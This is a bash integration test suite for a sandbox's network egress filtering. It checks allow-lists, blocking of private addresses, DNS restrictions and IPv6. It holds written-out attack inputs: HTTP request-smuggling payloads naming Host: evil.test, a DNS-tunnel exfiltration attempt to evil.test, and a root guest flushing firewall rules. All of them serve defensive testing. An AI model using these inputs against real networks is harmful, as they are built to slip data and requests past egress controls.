#!/bin/bash
# The sealed network end to end: real sandboxes, real servers on the host's loopback.
#
# The whole suite runs in private mount and network namespaces (unshare -mn): its own loopback
# (servers may take ports 53 and 80 without touching anyone's), and its own /etc/hosts and
# /etc/resolv.conf bind-mounted over the host's, so nothing of the machine is changed. The
# host's resolver points at a counting DNS server: any query the egress engine forwarded would
# show up there.
# An address of this (namespace's) host that is not private or loopback by any table, for
# t_host_own_addresses_blocked: set up by netns.sh as the namespaces' root.
# (A dummy interface when the kernel has the module loaded, else the loopback.)
NETNS_SETUP='dev=lo; { ip link add ml-self type dummy && ip link set ml-self up && dev=ml-self; } 2>/dev/null
ip addr add 198.51.100.7/32 dev $dev'
. "$(dirname "$0")/netns.sh"
. "$(dirname "$0")/lib.sh"

SRV=$T_OUT/srv
mkdir -p "$SRV/www"
echo "hello from the host" >"$SRV/www/index.html"
printf '127.0.0.1 localhost\n::1 localhost\n127.0.0.1 private.test\n' >"$T_OUT/hosts"
printf 'nameserver 127.0.0.1\n' >"$T_OUT/resolv.conf"
cat "$T_OUT/hosts" >/etc/hosts
cat "$T_OUT/resolv.conf" >/etc/resolv.conf
python3 "$ROOT/tests/integration/net_servers.py" "$SRV" &
SRV_PID=$!
trap 'kill $SRV_PID 2>/dev/null; rm -rf "$MATCHLOCK_HOME" "$T_OUT"' EXIT
for _ in $(seq 50); do [ -e "$SRV/ready" ] && break; sleep 0.1; done
[ -e "$SRV/ready" ] || { echo "servers did not start"; echo "0 passed, 1 failed"; exit 1; }

# A root filesystem with the rule-flushing fixture added.
NETFS=$T_OUT/rootfs-net
cp -a "$ROOTFS" "$NETFS"
cp "$BUILD/nft-flush" "$NETFS/bin/nft-flush"

count() { cat "$SRV/$1.count" 2>/dev/null || echo 0; }
# run_in ARGS... -- SCRIPT: matchlock run with the test rootfs, script through sh -c.
run_in() {
	local args=()
	while [ "$1" != -- ]; do args+=("$1"); shift; done
	shift
	ml run --rootfs "$NETFS" "${args[@]}" -- sh -c "$1"
}
# A bare name opens ports 80 and 443; the test servers' other ports are listed.
WEB=(--allow-host web.test,web.test:8080,web.test:8081,web.test:7007 --add-host web.test:127.0.0.1)

t_allowed_http_and_raw_tcp() {
	run_in "${WEB[@]}" -- 'wget -qO- http://web.test:8080/index.html; echo "wget=$?"
		echo ping-pong | nc web.test 7007; echo "nc=$?"'
	expect_eq status "$RC" 0
	expect_match stdout "$OUT" "hello from the host"
	expect_match stdout "$OUT" "wget=0"
	expect_match "echo through the relay" "$OUT" "ping-pong"
	expect_clean
}

t_bulk_both_ways_with_half_close() {
	# 4 MB through the TCP echo: the guest half-closes, the echo ends, bytes must all return.
	run_in "${WEB[@]}" -- 'head -c 4000000 /dev/urandom >/tmp/in; sha256sum </tmp/in | cut -c1-64
		nc web.test 7007 </tmp/in | sha256sum | cut -c1-64'
	expect_eq status "$RC" 0
	local a b
	a=$(sed -n 1p <<<"$OUT")
	b=$(sed -n 2p <<<"$OUT")
	[ ${#a} = 64 ] || fail "no checksum: $OUT"
	expect_eq "echoed bytes" "$b" "$a"
}

t_unlisted_name_nxdomain_and_raw_connect_refused() {
	local before
	before=$(count echo)
	run_in "${WEB[@]}" -- 'nslookup other.test; echo "ns=$?"
		echo raw-echo | nc 198.18.0.77 7007'
	expect_match nslookup "$OUT" "NXDOMAIN"
	expect_match "nslookup status" "$OUT" "ns=1"
	[[ $OUT == *raw-echo* ]] && fail "the raw connect got through: $OUT"
	expect_match "explained on stderr" "$ERR" "DNS denied other.test A: no --allow-host rule matches"
	expect_match "connect explained" "$ERR" "connect denied - 198.18.0.77 port 7007: not an address"
	expect_eq "echo server reached" "$(count echo)" "$before"
}

t_glob_semantics() {
	run_in --allow-host '*.ex.test' -- 'for n in a.ex.test b.c.ex.test ex.test xex.test; do
		if nslookup $n >/dev/null 2>&1; then echo "$n=yes"; else echo "$n=no"; fi; done'
	expect_match "subdomain" "$OUT" "a.ex.test=yes"
	expect_match "deeper subdomain" "$OUT" "b.c.ex.test=yes"
	expect_match "apex is not a subdomain" "$OUT" "ex.test=no"
	expect_match "suffix without a dot" "$OUT" "xex.test=no"
	run_in --allow-host 'one.test,two.test' --allow-host '*' -- 'nslookup anything.example >/dev/null && echo star=yes'
	expect_match "star" "$OUT" "star=yes"
	run_in --allow-host 'One.Test' -- 'nslookup one.test >/dev/null && echo ci=yes; nslookup x.one.test >/dev/null || echo exact=yes'
	expect_match "case-insensitive" "$OUT" "ci=yes"
	expect_match "exact name only" "$OUT" "exact=yes"
}

t_private_address_blocked_unless_opted_in() {
	# private.test is 127.0.0.1 in the host's /etc/hosts (this namespace's), not --add-host.
	local before
	before=$(count echo)
	run_in --allow-host private.test,private.test:7007,nosuch.test -- 'echo priv-echo | nc private.test 7007
		printf "GET / HTTP/1.0\r\nHost: private.test\r\n\r\n" | nc private.test 80
		printf "GET / HTTP/1.0\r\nHost: nosuch.test\r\n\r\n" | nc nosuch.test 80'
	# The guest's connect is accepted locally by the agent, then reset: nothing comes back.
	[[ $OUT == *priv-echo* ]] && fail "the echo server answered: $OUT"
	expect_match "HTTP gets a 403" "$OUT" "403 Forbidden"
	expect_match "reason" "$ERR" "private.test resolves to 127.0.0.1 \\(loopback\\); private addresses are blocked"
	expect_eq "echo server reached" "$(count echo)" "$before"
	# The guest is not told what the host's resolver said: no address, no "no such name".
	[[ $OUT == *127.0.0.1* || $OUT == *loopback* ]] && fail "the 403 tells the guest the address: $OUT"
	local priv nosuch
	priv=$(grep "blocked:" <<<"$OUT" | grep private.test | sed 's/private.test/NAME/g')
	nosuch=$(grep "blocked:" <<<"$OUT" | grep nosuch.test | sed 's/nosuch.test/NAME/g')
	[ -n "$priv" ] || fail "no 403 body for private.test: $OUT"
	expect_eq "a blocked address and a missing name read the same" "$nosuch" "$priv"
	run_in --allow-host private.test:7007 --allow-private-ips -- 'echo opted-in | nc private.test 7007'
	expect_match "with --allow-private-ips" "$OUT" "opted-in"
}

t_host_own_addresses_blocked() {
	# 198.51.100.7 comes from NETNS_SETUP (above).
	ip -br addr | grep -q 198.51.100.7 || fail "NETNS_SETUP did not add 198.51.100.7"
	grep -q self.test /etc/hosts || echo "198.51.100.7 self.test" >>/etc/hosts
	python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.51.100.7", 8088)); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"self-service\n"); c.close()' </dev/null >/dev/null 2>&1 &
	local pid=$!
	trap "kill $pid 2>/dev/null" EXIT
	sleep 0.5
	run_in --allow-host self.test:8088 -- 'nc -w 3 self.test 8088 </dev/null; echo "nc=$?"'
	[[ $OUT == *self-service* ]] && fail "the host's own address was reached: $OUT"
	expect_match "explained" "$ERR" "self.test resolves to 198.51.100.7 \\(an address of this host\\)"
	run_in --allow-host self.test:8088 --allow-private-ips -- 'nc -w 3 self.test 8088 </dev/null'
	expect_match "reachable with --allow-private-ips (the server works)" "$OUT" "self-service"
}

t_allow_entry_opens_only_its_ports() {
	local before
	before=$(count echo)
	run_in --allow-host web.test --add-host web.test:127.0.0.1 -- 'echo raw | nc -w 2 web.test 7007
		wget -qO- http://web.test/index.html'
	expect_match "port 80 is open" "$OUT" "hello from the host"
	[[ $OUT == *raw* ]] && fail "a bare name opened port 7007: $OUT"
	expect_eq "echo server reached" "$(count echo)" "$before"
	expect_match "explained" "$ERR" "the rules for web.test do not open port 7007"
	run_in --allow-host 'web.test:*' --add-host web.test:127.0.0.1 -- 'echo star | nc -w 2 web.test 7007'
	expect_match "NAME:* opens every port" "$OUT" "star"
}

t_http_host_header_must_match() {
	run_in "${WEB[@]}" -- 'printf "GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n" | nc web.test 80
		wget -qO- http://web.test/index.html'
	expect_match "403" "$OUT" "HTTP/1.1 403 Forbidden"
	expect_match "body names the rule" "$OUT" "names host evil.test .*not the connection's host name web.test"
	expect_match "the right Host passes" "$OUT" "hello from the host"
}

t_http_every_request_checked() {
	# Each attack tries to get a request for another host to the allowed server: keep-alive and
	# pipelined requests, on port 80 and on another port, absolute-form targets of any scheme,
	# and a smuggled head after a Content-Length or chunked body. The server logs every request.
	: >"$SRV/requests.log"
	local ok='GET /index.html HTTP/1.1\r\nHost: web.test\r\n\r\n'
	run_in "${WEB[@]}" -- "
		printf '$ok''GET /index.html HTTP/1.1\r\nHost: evil.test\r\n\r\n' | nc web.test 80; echo; echo =1
		printf '$ok''GET /index.html HTTP/1.1\r\nHost: evil.test\r\n\r\n' | nc web.test 8081; echo; echo =2
		printf 'GET http://evil.test:8080/ HTTP/1.1\r\nHost: web.test\r\n\r\n' | nc web.test 8081; echo; echo =3
		printf '$ok''GET https://evil.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n' | nc web.test 80; echo; echo =4
		printf 'POST /index.html HTTP/1.1\r\nHost: web.test\r\nContent-Length: 35\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n''GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n' | nc web.test 8081; echo; echo =5
		printf 'POST /x HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n''GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n' | nc web.test 8081; echo; echo =6
		printf '$ok''GET /index.html HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n' | nc web.test 8081; echo; echo =7"
	expect_eq status "$RC" 0
	local reqs
	reqs=$(cat "$SRV/requests.log")
	[[ $reqs == *evil* ]] && fail "a request for another host reached the server: $reqs"
	expect_eq "403s (one per attack)" "$(grep -c 'HTTP/1.1 403 Forbidden' <<<"$OUT")" 6
	# A denial ends the connection at once (earlier answers may be cut); a clean one serves all.
	expect_eq "the two requests of the clean connection" "$(sed -n '/=6/,/=7/p' <<<"$OUT" | grep -c 'hello from the host')" 2
	expect_match "the server saw them" "$reqs" "web.test GET /index.html HTTP/1.1"
	# Denials of one name are logged once, then counted (t_denials_are_aggregated).
	expect_match "explained" "$ERR" "HTTP denied web.test .* port 80: request 2 names host evil.test"
	expect_match "counted" "$ERR" "HTTP denied web.test 5 more times"
}

t_denials_are_aggregated() {
	# Any guest user can loop on a denied name; the sandbox log gets a line and a count.
	# Lookups for 6 s rather than a fixed count, so the host's speed sets how many; the log
	# must stay short however many there are.
	run_in --timeout 60 "${WEB[@]}" -- 'i=0; end=$(($(cut -d. -f1 /proc/uptime) + 6))
		while [ $(cut -d. -f1 /proc/uptime) -lt $end ] && [ $i -lt 400 ]; do
			nslookup -timeout=2 flood.test >/dev/null 2>&1; i=$((i+1)); done; echo looped=$i'
	expect_match "looped" "$OUT" "looped=[0-9]+"
	local looped=${OUT##*looped=}
	[ "$looped" -ge 3 ] || fail "only $looped lookups in 6 s"
	local lines
	lines=$(grep -c "flood.test" <<<"$ERR")
	[ "$lines" -ge 1 ] && [ "$lines" -le 4 ] || fail "$lines log lines for one denied name: $ERR"
	expect_match "summary with a count" "$ERR" "DNS denied flood.test [0-9]+ more times in the last 10 s"
	local n
	n=$(grep -o "denied flood.test [0-9]* more" <<<"$ERR" | awk '{s += $3} END {print s + 0}')
	[ "$n" -ge $((looped - 1)) ] || fail "the summaries count $n repeats of $looped lookups"
}

t_lookups_get_both_answers_on_a_busy_host() {
	# busybox nslookup sends A and AAAA back to back and matches answers by ID; glibc derives
	# the IDs from CLOCK_MONOTONIC. A guest kernel that timed its TSC against the PIT while the
	# host was busy lost the TSC and kept 4 ms jiffies: both queries got one ID and the second
	# answer was dropped. So boot cold while two busy loops share QEMU's CPU, then every lookup
	# must print both answers (NXDOMAIN for A and for AAAA); -timeout bounds the wait.
	command -v taskset >/dev/null || skip "taskset is not installed"
	local cpu busy=()
	cpu=$(taskset -pc $$ | sed 's/.*: //; s/[-,].*//')
	for _ in 1 2; do
		taskset -c "$cpu" sh -c 'while :; do :; done' &
		busy+=($!)
	done
	trap 'kill "${busy[@]}" 2>/dev/null' EXIT
	taskset -c "$cpu" "$ML" run --no-snapshot --timeout 60 --rootfs "$NETFS" -- sh -c 'i=0; while [ $i -lt 10 ]; do
		echo "answers=$(nslookup -timeout=1 flood.test 2>&1 | grep -c "can.t find")"; i=$((i+1)); done
		cat /sys/devices/system/clocksource/clocksource0/current_clocksource' >"$T_OUT/out" 2>"$T_OUT/err"
	RC=$?
	kill "${busy[@]}"
	trap - EXIT
	OUT=$(cat "$T_OUT/out")
	expect_eq status "$RC" 0
	expect_eq "lookups with both answers (guest clock: ${OUT##*$'\n'})" \
		"$(grep -c '^answers=2$' <<<"$OUT")" 10
}

t_no_network() {
	run_in --no-network -- 'cat /etc/resolv.conf 2>/dev/null; nslookup web.test 127.0.0.1 >/dev/null 2>&1; echo "ns=$?"
		echo x | nc -w 2 198.18.0.1 7007; echo "nc=$?"; ip route'
	expect_match "no DNS" "$OUT" "ns=1"
	expect_match "no connect" "$OUT" "nc=1"
	[[ $OUT == *default* ]] && fail "a default route exists: $OUT"
	expect_eq "echo server reached" "$(count echo)" "$(count echo)"
	return 0
}

t_root_flushing_rules_gains_nothing() {
	local before
	before=$(count echo)
	run_in "${WEB[@]}" -- 'a=$(grep " web.test" /etc/hosts | head -1 | cut -d" " -f1)
		echo before | nc -w 2 $a 7007
		nft-flush || exit 9
		echo after | nc -w 3 $a 7007; echo "nc=$?"
		nslookup -timeout=2 web.test 8.8.8.8 >/dev/null 2>&1; echo "ns=$?"'
	expect_match "rules were in place" "$OUT" "before"
	expect_match "flushed" "$OUT" "flushed"
	[[ $OUT == *after* ]] && fail "a connection got through after the flush: $OUT"
	expect_match "DNS to an outside server" "$OUT" "ns=1"
	expect_eq "echo connections" "$(count echo)" "$((before + 1))"
}

t_dns_tunnel_never_leaves_the_host() {
	# The counter works: a query from the host reaches it.
	local before
	before=$(count dns)
	python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(bytes.fromhex("1234010000010000000000000474657374000001 0001".replace(" ","")),("127.0.0.1",53)); s.recv(512)'
	expect_eq "counter control" "$(count dns)" "$((before + 1))"
	before=$(count dns)
	local label
	label=$(head -c 27 /dev/urandom | od -An -tx1 | tr -d ' \n')
	run_in --allow-host "*.web.test" -- "nslookup -type=TXT secret-$label.web.test; nslookup $label.$label.evil.test
		nslookup -type=TXT $label.evil.test; nslookup -type=MX web.test; echo done"
	expect_match "ran" "$OUT" "done"
	expect_match "TXT refused" "$ERR" "DNS denied secret-$label.web.test TXT: only A, AAAA and CNAME"
	expect_eq "queries that reached the host's DNS server" "$(count dns)" "$before"
}

t_udp_and_icmp_go_nowhere() {
	local before
	before=$(count udp)
	run_in "${WEB[@]}" -- 'a=$(grep " web.test" /etc/hosts | head -1 | cut -d" " -f1)
		for i in 1 2 3; do echo dgram | nc -u -w 1 $a 5300; done
		ping -c 1 -W 2 $a >/dev/null 2>&1; echo "ping=$?"'
	expect_match "ping" "$OUT" "ping=1"
	expect_eq "datagrams that reached the host" "$(count udp)" "$before"
}

t_ipv6() {
	run_in --allow-host v6.test:8080 --add-host 'v6.test:[::1]' -- 'nslookup -type=AAAA v6.test | grep -q fd6d: && echo aaaa=yes
		a=$(grep "^fd6d.* v6.test" /etc/hosts | cut -d" " -f1)
		wget -qO- "http://[$a]:8080/index.html"'
	expect_match "AAAA answer" "$OUT" "aaaa=yes"
	expect_match "over IPv6 to ::1" "$OUT" "hello from the host"
}

t_bad_flags() {
	ml run --rootfs "$NETFS" --allow-host 'a.*.com' -- true
	expect_one_line_error
	ml run --rootfs "$NETFS" --add-host 'nocolon' -- true
	expect_one_line_error
}


run_tests "$@"
